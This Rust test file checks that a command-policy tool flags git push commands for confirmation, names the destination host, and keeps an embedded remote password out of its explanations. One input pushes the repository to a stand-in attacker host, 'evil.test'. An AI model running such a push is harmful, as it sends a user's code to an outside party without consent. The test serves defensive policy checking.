//! The question about a push names its destination (NET-028).

use std::process::Command;

use crate::world::{World, stdout};

#[test]
fn a_push_names_its_host() {
    let world = World::new();
    let git = |arguments: &[&str]| {
        let done = Command::new("git")
            .args(arguments)
            .current_dir(world.work.path())
            .output()
            .unwrap();
        assert!(done.status.success(), "{arguments:?}");
    };
    git(&["init", "-q"]);
    git(&[
        "remote",
        "add",
        "origin",
        "https://me:hush@git.example/a.git",
    ]);
    git(&["remote", "add", "other", "git@ssh.example:a.git"]);
    git(&[
        "remote",
        "set-url",
        "--push",
        "other",
        "ssh://git@far.example/a.git",
    ]);
    let reason = |line: &str| {
        let output = world
            .sabir()
            .args(["policy", "explain", "--output", "json", "--", line])
            .output()
            .unwrap();
        let report: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
        assert_eq!(report["verdict"], "ask", "{line}");
        report["reason"].as_str().unwrap().to_owned()
    };
    for (line, host) in [
        ("git push origin main", "it sends to git.example"),
        ("git push --force origin", "it sends to git.example"),
        ("git push other", "it sends to far.example"),
        ("git push", "it sends to far.example, git.example"),
        (
            "git push https://me@evil.test/x main",
            "it sends to evil.test",
        ),
    ] {
        let reason = reason(line);
        assert!(reason.contains(host), "{line}: {reason}");
        assert!(!reason.contains("hush"), "{line}: {reason}");
    }
}
